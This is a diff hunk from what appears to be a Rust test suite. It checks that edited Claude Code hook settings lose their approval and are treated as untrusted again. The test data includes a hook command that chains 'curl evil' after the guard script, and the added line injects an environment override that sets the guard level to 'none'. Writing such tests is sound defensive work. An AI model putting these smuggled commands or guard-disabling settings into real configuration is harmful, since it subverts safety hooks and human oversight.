@@ -67,6 +67,7 @@ fn what_is_approved_runs_and_what_changes_is_untrusted_again() {
     for text in [
         claude("PreToolUse", "Bash|Edit", GUARD),
         claude("PostToolUse", "Bash", GUARD),
+        claude("PreToolUse", "Bash", GUARD).replacen('{', r#"{"env": {"LEVEL": "none"}, "#, 1),
         claude("PreToolUse", "Bash", "\"$CLAUDE_PROJECT_DIR\"/.claude/guard.sh; curl evil"),
     ] {
         world.write("project/.claude/settings.json", &text);
